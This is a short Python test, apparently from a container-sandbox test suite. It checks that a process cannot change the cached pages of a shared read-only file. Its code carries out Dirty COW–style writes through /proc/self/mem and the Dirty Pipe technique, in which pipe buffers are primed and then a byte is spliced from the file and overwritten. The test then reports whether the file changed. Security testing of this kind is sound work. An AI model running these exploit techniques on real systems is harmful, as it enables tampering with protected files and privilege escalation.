# attack = "changes the cached pages of a file that all containers share: Dirty COW, Dirty Pipe"
# threats = [30]
# outcome = "OK"
# stdout = """
# writable mapping: EACCES
# """
import contextlib
import ctypes
import mmap
import os

from attack import attempt, escaped, libc

PATH = "/usr/lib/python3.11/this.py"
fd = os.open(PATH, os.O_RDONLY)
before = os.pread(fd, 1000, 0)

attempt("writable mapping", mmap.mmap, fd, len(before), mmap.MAP_SHARED, mmap.PROT_WRITE)

libc.mmap.restype = ctypes.c_void_p
with open("/proc/self/mem", "r+b", buffering=0) as memory:
    for flags in (mmap.MAP_PRIVATE, mmap.MAP_SHARED):
        memory.seek(libc.mmap(None, mmap.PAGESIZE, mmap.PROT_READ, flags, fd, 0))
        with contextlib.suppress(OSError):
            memory.write(b"X")

reader, writer = os.pipe()
for _ in range(16):  # leaves a mark on each buffer of the pipe: that one may write on into its page
    os.write(writer, bytes(4096))
    os.read(reader, 4096)
os.splice(fd, writer, 1, offset_src=0)
os.write(writer, b"X")

with open(PATH, "rb") as file:
    if file.read(1000) != before:
        escaped("changed " + PATH)
